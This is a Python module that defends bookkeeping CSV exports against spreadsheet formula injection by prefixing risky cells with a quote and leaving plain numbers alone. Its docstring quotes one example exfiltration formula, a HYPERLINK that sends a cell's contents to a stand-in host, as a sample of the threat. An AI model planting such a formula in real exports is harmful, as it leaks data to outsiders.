"""CSV cells that a spreadsheet opens as text, never as a formula (CSV injection).

Booked output is opened in Excel or LibreOffice by the fiduciary's staff, and some of its
text comes from strangers: a supplier's printed name, a booking text read off an invoice.
A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to a
spreadsheet (`=HYPERLINK("http://evil.example/?x="&A1,"Gloor")` leaks the sheet on a
click). OWASP's remedy: put a single quote in front of such a cell, which the spreadsheet
shows as text. Plain decimal numbers are left alone, so a negative amount (`-12.50`)
stays a number a spreadsheet can sum.
"""

import re
from collections.abc import Iterable
from typing import Any, Protocol

# What makes a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# An amount or a count as we write them: optional sign, digits, optional decimals. ASCII
# digits only: "-١٢" is not a number a spreadsheet sums, so it is quoted like text.
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?", re.ASCII)


def csv_cell(value: str) -> str:
    """`value`, with a leading `'` when a spreadsheet would take it for a formula."""
    if value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[str]:
    """Every cell of a row made safe; None is an empty cell (as the csv module writes it)."""
    return ["" if value is None else csv_cell(str(value)) for value in values]


class _Writer(Protocol):
    def writerow(self, row: Iterable[Any], /) -> Any: ...


class SafeCsvWriter:
    """Wraps a `csv.writer`: every row goes through `csv_row`, so no caller can forget a
    cell. `SafeCsvWriter(csv.writer(out, ...))` where `csv.writer(out, ...)` was."""

    def __init__(self, writer: _Writer) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(csv_row(row))
